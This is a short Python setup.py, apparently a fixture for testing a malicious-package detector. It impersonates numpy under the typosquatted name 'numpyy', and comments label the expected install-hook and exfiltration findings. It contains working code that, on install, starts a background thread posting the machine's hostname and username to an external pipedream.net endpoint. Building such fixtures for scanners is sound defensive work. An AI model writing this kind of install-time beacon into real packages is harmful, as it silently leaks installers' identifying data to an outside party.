# ruff: noqa
# fmt: off
"""A beacon started on a thread at the top of setup.py; it sends the host and user names home."""
import getpass
import socket
import threading

import requests
from setuptools import setup


def _beacon():
    requests.post("https://eo1x2y3z.m.pipedream.net", json={"h": socket.gethostname(), "u": getpass.getuser()})  # expect: install-hook, exfiltrate-sensitive-data


threading.Thread(target=_beacon, daemon=True).start()  # expect: install-hook
setup(name="numpyy", version="1.26.4")
